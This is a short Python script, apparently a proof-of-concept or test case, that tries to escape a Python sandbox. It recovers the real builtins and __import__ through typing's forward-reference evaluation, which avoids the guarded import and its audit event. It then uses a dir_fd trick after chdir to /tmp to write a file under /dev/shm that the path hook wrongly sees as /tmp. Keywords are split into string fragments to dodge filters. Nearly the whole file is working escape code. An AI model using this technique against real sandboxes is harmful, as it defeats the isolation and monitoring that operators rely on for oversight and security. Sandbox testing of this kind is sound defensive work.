# fs: chdir /tmp (allowed) then os.open('dev/shm/x', dir_fd=/): the hook sees /tmp/dev/shm/x
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    root = o.open("/", o.O_RDONLY)
    o.chdir("/tmp")
    fd = o.open("dev/shm/rt_dirfd", o.O_WRONLY | o.O_CREAT, 0o644, dir_fd=root)
    o.write(fd, b"x")
    o.close(fd)
    print(M, "wrote /dev/shm/rt_dirfd", o.stat("/dev/shm/rt_dirfd").st_size)
except Exception as e:
    print("refused:", type(e).__name__, e)
